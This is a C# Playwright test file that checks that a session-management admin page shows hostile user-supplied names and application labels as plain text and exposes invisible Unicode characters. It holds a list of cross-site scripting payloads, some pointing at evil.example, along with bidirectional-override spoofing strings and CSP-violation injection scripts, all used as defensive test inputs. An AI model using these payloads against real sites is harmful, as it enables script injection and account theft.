using System.Globalization;
using System.Text;
using Microsoft.Playwright;

namespace Hanzo.Sessions.AspNetCore.Tests.Pages;

/// <summary>Text that users choose is text, and what cannot be seen in it is shown.</summary>
internal sealed class HostileTextTests : PageTest
{
    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "\"><script src=//evil.example/x.js></script>",
        "' onmouseover='alert(1)' x='",
        "javascript:alert(1)",
        "</title><script>alert(1)</script>",
        "<iframe src=https://evil.example></iframe>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{display:none}</style>",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)} `alert(1)`",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<form action=//evil.example><button>x</button></form>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x202E;",
        "]]><!--<script>alert(1)//-->",
        "<template><b>x</b></template><math><mi//xlink:href=\"data:x\">",
        "photo\u202Egpj.exe",
        "\u2066isolated\u2069 \u200Fright\u200E",
        "zero\u200Bwidth\u200Cnon\u2060joiner\uFEFF",
        "tab\tnew\nline\rreturn",
        "bell\u0007 escape\u001B[31m delete\u007F next\u0085",
        "line\u2028paragraph\u2029separator",
        "tag\U000E0041\U000E007F soft\u00ADhyphen \u3164filler",
        "مرحبا بالعالم (x) 123",
        "👩‍💻 👨‍👩‍👧 🏳️‍🌈 ❤️",
        "Zalgo H̸̡̪̯ͨ͊̽̅̾̎Ȩ̬̩̾͛ͪ̈́̀́͘ ",
        " spaces  at   both ends ",
        "ada",
        "ada ",
        "ada\u00A0",
        "ada\u3000",
        "\u2003ada\u202F",
        "ada\uFE0F",
        "ad\uFE0Fa \u00A0 1\uFE0F\u20E3",
        "山田\u3000太郎",
        "un\u2065assigned\uFFF0\U000E0FFF",
        new string('W', 240),
        "nul\0 lone\uD800 surrogate\uDC00",
    ];

    [Test]
    [Description("Pages, I1, X1")]
    public async Task Every_payload_is_shown_as_the_text_it_is()
    {
        var sessions = new List<Session>();
        foreach (var payload in Payloads)
        {
            // Names take neither NUL nor lone surrogates; user agents are repaired.
            var name = payload.Replace("\0", "", StringComparison.Ordinal).Replace("\uD800", "", StringComparison.Ordinal).Replace("\uDC00", "", StringComparison.Ordinal);
            sessions.Add(await SeedAsync(name, payload, application: name.Replace('/', '|')));
        }

        var visit = await SignedInAsync("admin", Admin, options: new() { ReducedMotion = ReducedMotion.Reduce });
        await visit.OpenAsync("/admin/sessions?size=100");
        await Expect(visit.Rows).ToHaveCountAsync(Payloads.Length + 1);
        var names = await visit.Rows.Locator("th .user-text").AllTextContentsAsync();
        Assert.That(names, Is.EquivalentTo(sessions.Select(session => Visible(session.User.Name)).Append("admin")));
        Assert.That(
            await visit.Rows.Locator(".col-application .user-text").AllTextContentsAsync(),
            Is.EquivalentTo(sessions.Select(session => Visible(session.Application)).Append("app-hanzo")));

        foreach (var session in sessions)
        {
            await visit.Rows.Nth(names.ToList().IndexOf(Visible(session.User.Name))).Locator("button.tag-open").ClickAsync();
            var values = await visit.Dialog.Locator(".user-text").AllTextContentsAsync();
            Assert.That(values, Does.Contain(Visible(session.UserAgent!)), "user agent");
            await visit.Dialog.GetByText("End this session…").ClickAsync();
            Assert.That(await visit.Dialog.TextContentAsync(), Does.StartWith("End this session?" + Visible(session.User.Name) + " is signed out of " + Visible(session.Application)));
            await visit.Button("Cancel").ClickAsync();
        }

        await visit.OpenAsync("/admin/sessions?view=sessions&size=100");
        await Expect(visit.Rows).ToHaveCountAsync(Payloads.Length + 1);
        foreach (var session in sessions)
        {
            Assert.That(await visit.RowOf(session).Locator("th .user-text").TextContentAsync(), Is.EqualTo(Visible(session.User.Name)));
            Assert.That(await visit.RowOf(session).Locator(".col-application").TextContentAsync(), Is.EqualTo(Visible(session.Application)));
            await Expect(visit.RowOf(session).GetByRole(AriaRole.Button, new() { Name = "Terminate" })).ToHaveAttributeAsync(
                "aria-label", $"Terminate the session of {Visible(session.User.Name)} in {Visible(session.Application)}: {DeviceLabel.Of(session.UserAgent)}");
        }

        foreach (var session in sessions)
        {
            await Web.Manager.SignOutAsync(session);
        }

        await visit.OpenAsync("/admin/sessions?view=history&size=100");
        await Expect(visit.Rows).ToHaveCountAsync(Payloads.Length);
        Assert.That(
            await visit.Rows.Locator("th .user-text").AllTextContentsAsync(),
            Is.EquivalentTo(sessions.Select(session => Visible(session.User.Name))));
        Assert.That(names.Distinct(StringComparer.Ordinal).Count(), Is.EqualTo(names.Count), "No two look the same");
        Assert.That(Payloads, Has.Length.GreaterThanOrEqualTo(30));
    }

    [Test]
    [Description("Pages")]
    public async Task A_payload_in_a_toast_and_in_the_address_is_text_too()
    {
        var payload = "<img src=x onerror=alert(1)>\u202E";
        var session = await SeedAsync(payload);
        var visit = await AdministratorAsync("/admin/sessions?search=" + Uri.EscapeDataString(payload));
        await Expect(visit.Rows).ToHaveCountAsync(1);
        await visit.Tab.Locator(".tag-end").ClickAsync();
        await visit.Button("End 1 session").ClickAsync();
        Assert.That(await visit.Toast.TextContentAsync(), Is.EqualTo($"Ended the session of {Visible(session.User.Name)} on Firefox on Windows."));
        await visit.OpenAsync("/admin/sessions?organization=hanzo&user=" + Uri.EscapeDataString(payload));
        Assert.That(await visit.Tab.Locator(".chip").TextContentAsync(), Is.EqualTo("Only " + Visible(payload)));
    }

    [Test]
    [Description("Pages, I1")]
    public async Task The_name_of_the_signed_in_user_is_text_too([Values("/admin/sessions", "/account/sessions")] string path)
    {
        const string name = "\"><script>alert(1)</script>{{title}}\u00A0";
        var visit = await VisitAsync();
        await visit.SignInAsync(Uri.EscapeDataString(name), organization: Uri.EscapeDataString("{{user}}"), more: Admin);
        await visit.OpenAsync(path);
        Assert.That(await visit.Tab.Locator(".signed-in-as").TextContentAsync(), Is.EqualTo("Signed in as " + Visible(name)));
        Assert.That(await visit.Tab.EvaluateAsync<string>("() => document.body.dataset.user"), Is.EqualTo(name));
        Assert.That(await visit.Tab.EvaluateAsync<string>("() => document.body.dataset.organization"), Is.EqualTo("{{user}}"));
    }

    [Test]
    [Description("Pages, I1")]
    public async Task Names_that_differ_in_a_blank_are_told_apart_wherever_they_stand()
    {
        var other = await SeedAsync("ada\u00A0", application: "shop\u3000");
        await SeedAsync("ada", application: "shop");
        var visit = await AdministratorAsync();
        await visit.Button("End the session of ada[U+00A0] in shop[U+3000]: Firefox on Windows").ClickAsync();
        await Expect(visit.Dialog).ToContainTextAsync("ada[U+00A0] is signed out of shop[U+3000] on");
        await visit.Button("End 1 session").ClickAsync();
        await Expect(visit.Toast).ToHaveTextAsync("Ended the session of ada[U+00A0] on Firefox on Windows.");
        Assert.That(await EndOfAsync(other), Is.Not.Null);

        var third = await SeedAsync("ada", application: "shop\u3000");
        await visit.Button("Refresh").ClickAsync();
        await Expect(visit.Tab.Locator("#applications option[value='shop\u3000']")).ToHaveAttributeAsync("label", "shop[U+3000]");
        await visit.Tab.GetByLabel("Application").FillAsync("shop\u3000");
        await visit.Tab.Keyboard.PressAsync("Enter");
        await Expect(visit.Rows).ToHaveCountAsync(1);
        await Expect(visit.Tab.Locator("tbody .col-application")).ToHaveTextAsync("shop[U+3000]");
        Assert.That(await EndOfAsync(third), Is.Null);
    }

    [TestCase("document.body.setAttribute('style', 'color: red')", "CSP violation: style-src-attr inline")]
    [TestCase("document.body.append(Object.assign(new Image(), { src: 'http://evil.example/x' }))", "CSP violation: img-src http://evil.example/x")]
    [TestCase("document.body.append(Object.assign(document.createElement('script'), { textContent: 'alert(1)' }))", "CSP violation: script-src-elem inline")]
    [TestCase("setTimeout(() => alert('seen'))", "dialog: seen")]
    [TestCase("setTimeout(() => { throw new Error('seen'); })", "seen")]
    [Description("Pages")]
    public async Task The_watch_notices_what_must_not_happen(string script, string fault)
    {
        var visit = await AdministratorAsync();
        await visit.Tab.EvaluateAsync($"() => {{ {script}; }}");
        Assert.That(() => visit.Faults, Has.Some.Contains(fault).After(30_000, 20));
        visit.ForgetFaults();
    }

    /// <summary>Written without the page's regular expression: rune by rune, by category.</summary>
    private static string Visible(string text)
    {
        var runes = text.EnumerateRunes().ToList();
        var shown = new StringBuilder();
        for (var index = 0; index < runes.Count; index++)
        {
            var rune = runes[index];
            var isHidden = Rune.GetUnicodeCategory(rune)
                is UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator
                || rune.Value is 0x3164 or 0x2065 or 0xFFF0 or 0xE0FFF
                || (rune.Value is 0xFE0F && !IsEmojiStyle(runes, index))
                || IsHiddenBlank(runes, index);
            shown.Append(isHidden && !JoinsEmoji(runes, index) ? $"[U+{rune.Value:X4}]" : rune.ToString());
        }

        return shown.ToString();
    }

    // One blank between two words can be seen, and so can a wide one.
    private static bool IsHiddenBlank(List<Rune> runes, int index) =>
        IsBlank(runes[index])
        && !(runes[index].Value is 0x20 or 0x3000 && index > 0 && index + 1 < runes.Count && !IsBlank(runes[index - 1]) && HasWordAfter(runes, index));

    private static bool HasWordAfter(List<Rune> runes, int index) => runes.Skip(index).Any(rune => !IsBlank(rune));

    private static bool IsBlank(Rune rune) => Rune.GetUnicodeCategory(rune) is UnicodeCategory.SpaceSeparator;

    private static bool IsEmojiStyle(List<Rune> runes, int index) =>
        index > 0 && (runes[index - 1].Value > 0x2600 || (index + 1 < runes.Count && runes[index + 1].Value is 0x20E3));

    private static bool JoinsEmoji(List<Rune> runes, int index) =>
        runes[index].Value == 0x200D && index > 0 && index + 1 < runes.Count && runes[index - 1].Value > 0x2600 && runes[index + 1].Value > 0x2600;
}
